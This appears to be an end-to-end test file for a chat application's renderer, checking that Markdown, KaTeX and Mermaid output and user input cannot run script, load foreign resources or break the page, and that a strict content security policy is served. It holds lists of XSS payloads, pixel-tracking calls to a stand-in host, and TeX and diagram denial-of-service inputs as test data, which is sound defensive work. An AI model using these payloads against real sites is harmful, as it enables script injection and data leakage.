import { waitFor } from '@askwire/testing'
import { describe, expect, test } from '@jest/globals'
import type { Page } from 'playwright-core'
import { answerAt, ask, finishedAnswer, textOf } from './support/chat-page.ts'
import { ownAskwire } from './support/own-askwire.ts'

/** What a poisoned model may say. Each sets `__ran`, asks a foreign server or leads astray when it is believed. */
const PAYLOADS = [
  `<script>globalThis.__ran = 'script'</script>`,
  `<img src=x onerror="globalThis.__ran='onerror'">`,
  `<svg onload="globalThis.__ran='svg'"><a href="javascript:globalThis.__ran='svg link'"><text>x</text></a></svg>`,
  `<iframe srcdoc="<script>parent.__ran='srcdoc'</script>"></iframe>`,
  `<iframe src="https://canary.invalid/frame"></iframe>`,
  `<details open ontoggle="globalThis.__ran='toggle'"><summary>x</summary></details>`,
  `<style>@import url(https://canary.invalid/style.css); body { background: url(https://canary.invalid/bg.png) }</style>`,
  `<link rel="stylesheet" href="https://canary.invalid/link.css"><base href="https://canary.invalid/">`,
  `<meta http-equiv="refresh" content="0;url=https://canary.invalid/meta">`,
  `<form action="https://canary.invalid/form"><input autofocus onfocus="globalThis.__ran='focus'"></form>`,
  `[click me](javascript:globalThis.__ran='link')`,
  `[click me](java&#x0A;script:globalThis.__ran='entity')`,
  `[click me](<JaVaScRiPt:globalThis.__ran='case'>)`,
  `[click me](data:text/html,<script>opener.__ran='data'</script>)`,
  `[click me](vbscript:globalThis.__ran='vb')`,
  `[own route](/api/runs) [up](../../health) [host](//canary.invalid/slashes)`,
  `<javascript:globalThis.__ran='auto'>`,
  `![pixel](https://canary.invalid/pixel.png?q=secret)`,
  `![pixel](https://canary.invalid/"onerror="globalThis.__ran='alt' "title")`,
  `[![nested](https://canary.invalid/nested.png)](https://canary.invalid/page)`,
  `[ref]\n\n[ref]: javascript:globalThis.__ran='reference'`,
  `[^1]\n\n[^1]: <img src=x onerror="globalThis.__ran='footnote'">`,
  `| a |\n|---|\n| <img src=x onerror="globalThis.__ran='table'"> |`,
  '```html\n<script>globalThis.__ran = "fence"</script>\n```',
  '```"onmouseover="globalThis.__ran=1\nx\n```',
  `$$\\href{javascript:globalThis.__ran='math'}{x}$$`,
  '```mermaid\ngraph TD\n click A "javascript:globalThis.__ran=1"\n```',
]

/** Formulas that want out of the formula, or never to end. */
const FORMULAS = [
  `\\href{javascript:globalThis.__ran='href'}{click}`,
  `\\url{javascript:globalThis.__ran='url'}`,
  '\\includegraphics{https://canary.invalid/math.png}',
  '\\htmlStyle{background:url(https://canary.invalid/math-bg.png)}{x}',
  '\\htmlClass{to-bottom}{x} \\htmlId{root}{y} \\htmlData{message=x}{z}',
  `\\text{<img src=x onerror="globalThis.__ran='text'">}`,
  '\\def\\a{\\a\\a}\\a',
  '\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b}\\c\\c\\c\\c\\c\\c\\c\\c',
  `${'{'.repeat(2400)}x^2${'}'.repeat(2400)}`,
  `${'\\sqrt{'.repeat(600)}x${'}'.repeat(600)}`,
  '\\def\\a#1{\\sqrt{\\sqrt{\\sqrt{\\sqrt{#1}}}}}\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}}}}}}',
  '\\rule{90000em}{90000em}',
  '\\kern-90000em x^2 \\raisebox{90000em}{y}',
  `x^2${' + x'.repeat(3000)}`,
]

/** Diagrams that want to run, load, lead away, change the page, or never to be laid out. */
const DIAGRAMS = [
  `graph TD\n A --> B\n click A "javascript:globalThis.__ran='click'"`,
  `graph TD\n A --> B\n click A call globalThis.__run()`,
  `graph TD\n A --> B\n click A href "https://canary.invalid/click"`,
  `graph TD\n A["<img src=x onerror=globalThis.__ran='label'>"] --> B["<script>globalThis.__ran='script'</script>"]`,
  `graph TD\n A["<a href='javascript\\:globalThis.__ran=1'>click</a><style>*{display:none}</style>"]`,
  `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\ngraph TD\n A["<svg onload=globalThis.__ran='init'>"] --> B`,
  `---\nconfig:\n  securityLevel: loose\n  themeCSS: "* { display: none !important }"\n---\ngraph TD\n A["<b onclick=globalThis.__ran='front'>x</b>"]`,
  `%%{init: {"themeCSS": "body { display: none !important }"}}%%\ngraph TD\n A --> B`,
  `graph TD\n A --> B\n classDef x fill:red}body{display:none\n class A x`,
  `graph TD\n A --> B\n style A fill:url(https://canary.invalid/fill.png)`,
  `graph TD\n A@{ img: "https://canary.invalid/shape.png", label: "x" }`,
  `sequenceDiagram\n participant A as <foreignObject><img src=x onerror=globalThis.__ran='fo'></foreignObject>\n A->>A: <script>globalThis.__ran=1</script>`,
  `sequenceDiagram\n participant A\n link A: click @ javascript&#58;globalThis.__ran=1\n A->>A: x`,
  `classDiagram\n class A["<iframe srcdoc='x'>"]\n A : +run()`,
  `gantt\n title <img src=x onerror=globalThis.__ran='gantt'>\n section S\n T : t1, 2026-01-01, 1d\n click t1 call globalThis.__run()`,
  `graph TD\n A["&lt;img src=x onerror=globalThis.__ran='entity'&gt;"] --> B["#lt;img src=x onerror=globalThis.__ran='code'#gt;"]`,
  `graph TD\n A["&LT;img src=x onerror=globalThis.__ran='case'>"] --> B["&#x3C;img src=x onerror=globalThis.__ran='hex'>"]`,
  `graph TD\n A["&amp;lt;img src=x onerror=globalThis.__ran='twice'>"] --> B["<<img src=x onerror=globalThis.__ran='two'>>"]`,
  `pie title <script>globalThis.__ran=1</script>\n "<img src=x onerror=globalThis.__ran='pie'>" : 1`,
  `mindmap\n root((<img src=x onerror=globalThis.__ran='mind'>))`,
  'graph TD\n $$\\href{javascript\\:1}{x}$$ --> B["$$\\text{<img src=x>}$$"]',
  `graph TD\n${'A-->B\n'.repeat(400)}`,
  `graph TD\n${'A-->B\n'.repeat(4000)}`,
  'graph TD\n A -->',
  'no diagram at all',
  'graph TD\n A[Start] -->|go| B{Is it?}',
  'sequenceDiagram\n A->>B: hello',
  'pie title Pets\n "Dogs" : 3\n "Cats" : 2',
]

const askwire = ownAskwire()

const ran = (page: Page): Promise<unknown> => page.evaluate(() => (globalThis as { __ran?: unknown }).__ran)

describe('what a model says', () => {
  test('runs nothing, loads nothing and links only where it may', async () => {
    const text = PAYLOADS.join('\n\n')
    askwire.model.behave({ text: `${text}\n\nThe end.`, count: 1 })
    const { page, problems, outside } = await askwire.open()
    await ask(page, 'What do you say?')
    expect(await finishedAnswer(page)).toContain('The end.')

    const markdown = answerAt(page, 0).locator('.markdown')
    expect(
      await markdown
        .locator(
          'script, img:not(.diagram > img), iframe, svg:not([data-icon]), style, link, base, meta, form, details, object',
        )
        .count(),
    ).toBe(0)
    const links = await markdown
      .locator('a')
      .evaluateAll((all) =>
        all.map((link) => ({ href: link.getAttribute('href'), rel: link.getAttribute('rel'), text: link.textContent })),
      )
    // The two images, and the page behind the third.
    expect(links).toHaveLength(3)
    for (const link of links) {
      expect(link).toEqual({
        href: expect.stringMatching(/^https:\/\/canary\.invalid\//),
        rel: 'noopener noreferrer nofollow',
        text: expect.stringContaining('canary.invalid'),
      })
    }
    // Everything that can be clicked without leaving the page is clicked.
    for (const text of await markdown.getByText('click me').all()) await text.click()
    expect(await ran(page)).toBeUndefined()
    expect(outside).toEqual([])
    expect(problems).toEqual([])
    await page.context().close()
  })

  test('is as harmless at every point of its arrival', async () => {
    askwire.model.behave({ text: 'x', count: 1 })
    const { page, problems, outside } = await askwire.open()
    for (const [index, payload] of PAYLOADS.slice(0, 4).entries()) {
      // Cut in the middle: what is left open must not become an element either.
      askwire.model.behave({ text: payload.slice(0, Math.ceil(payload.length / 2)), count: 2 })
      await ask(page, `Part ${index}?`)
      await finishedAnswer(page, index)
    }
    expect(await page.locator('.markdown').locator('script, img, iframe, svg:not([data-icon])').count()).toBe(0)
    expect(await ran(page)).toBeUndefined()
    expect(outside).toEqual([])
    expect(problems).toEqual([])
    await page.context().close()
  })
})

describe('formulas and diagrams', () => {
  test('become nothing but signs and still pictures', async () => {
    const formulas = FORMULAS.map((tex) => `$$\n${tex}\n$$\n\nAnd $${tex}$.`)
    const diagrams = DIAGRAMS.map((source) => `\`\`\`mermaid\n${source}\n\`\`\``)
    askwire.model.behave({ text: [...formulas, ...diagrams, 'The end.'].join('\n\n'), count: 1 })
    const { page, problems, outside } = await askwire.open()
    await ask(page, 'Draw something.')
    await finishedAnswer(page)
    const markdown = answerAt(page, 0).locator('.markdown')
    const pictures = markdown.locator('.diagram > img')
    const done = markdown.locator('.diagram > img, .diagram-failure')
    await done.nth(DIAGRAMS.length - 1).waitFor({ state: 'attached' })
    await markdown.locator('.katex').first().waitFor({ state: 'attached' })

    expect(await pictures.count()).toBeGreaterThan(4)
    expect(
      await markdown.locator('script, iframe, style, link, object, foreignObject, a, img:not(.diagram > img)').count(),
    ).toBe(0)
    for (const picture of await pictures.all()) {
      const [kind = '', text = ''] = ((await picture.getAttribute('src')) ?? '').split(/,(.*)/s)
      expect(kind).toBe('data:image/svg+xml;charset=utf-8')
      const svg = decodeURIComponent(text)
      expect(svg).not.toMatch(/<(script|foreignObject|image|iframe|a|use)[\s>]|javascript:|canary|@import/i)
      await waitFor(() => picture.evaluate((image) => 'naturalWidth' in image && Number(image.naturalWidth) > 0), {
        what: 'the picture is drawn',
      })
    }
    for (const text of await markdown.getByText('click', { exact: true }).all()) await text.click({ force: true })
    await waitFor(async () => (await page.locator('.diagram-host, body > [id^="d"]').count()) === 0, {
      what: 'nothing of the drawing is left',
    })
    // Nothing of it covers the page, nor makes it wider.
    const scroller = page.locator('.scroller')
    expect(await scroller.evaluate((box) => box.scrollWidth - box.clientWidth)).toBe(0)
    await page.getByRole('textbox', { name: 'Your question' }).click()
    expect(await ran(page)).toBeUndefined()
    expect(outside).toEqual([])
    expect(problems).toEqual([])
    await page.context().close()
  })
})

describe('what a document says', () => {
  test('is shown as text in the source panel', async () => {
    askwire.model.behave({ text: 'On Mondays [1].', count: 1 })
    const { page, problems, outside } = await askwire.open()
    await ask(page, 'On which day is the Quillon press oiled?')
    await finishedAnswer(page)
    await answerAt(page, 0)
      .locator('.markdown')
      .getByRole('button', { name: /hostile/ })
      .click()
    await page.locator('.passage mark').waitFor()
    expect(await textOf(page.locator('.passage'))).toContain('onerror=')
    expect(await page.locator('.source-panel').locator('script, img, iframe').count()).toBe(0)
    expect(await ran(page)).toBeUndefined()
    expect(outside).toEqual([])
    expect(problems).toEqual([])
    await page.context().close()
  })
})

describe('what a person asks', () => {
  test('is shown as it was typed, also as the name of the session', async () => {
    askwire.model.behave({ text: 'Fine.', count: 1 })
    const question = `<img src=x onerror="globalThis.__ran='question'"> **bold** [x](javascript:globalThis.__ran='q')`
    const { page, problems, outside } = await askwire.open()
    await ask(page, question)
    await finishedAnswer(page)
    expect(await textOf(page.locator('.question .ant-bubble-content'))).toBe(question)
    // The model may have named it by now.
    expect([question, 'Fine.']).toContain(await textOf(page.getByRole('heading', { level: 1 })))
    await page.reload()
    await finishedAnswer(page)
    expect(await ran(page)).toBeUndefined()
    expect(outside).toEqual([])
    expect(problems).toEqual([])
    await page.context().close()
  })
})

describe('the page', () => {
  test('is served under a policy that allows no foreign and no inline script', async () => {
    const response = await fetch(askwire.url)
    const policy = response.headers.get('content-security-policy') ?? ''
    const directive = (name: string): string | undefined =>
      policy
        .split(';')
        .map((part) => part.trim())
        .find((part) => part.startsWith(`${name} `))
    expect(directive('default-src')).toBe("default-src 'none'")
    expect(directive('script-src')).toBe("script-src 'self'")
    expect(directive('connect-src')).toBe("connect-src 'self'")
    expect(directive('img-src')).toBe("img-src 'self' data:")
    expect(await response.text()).not.toMatch(/<script(?![^>]* src=)|<style| on[a-z]+=/i)
  })
})
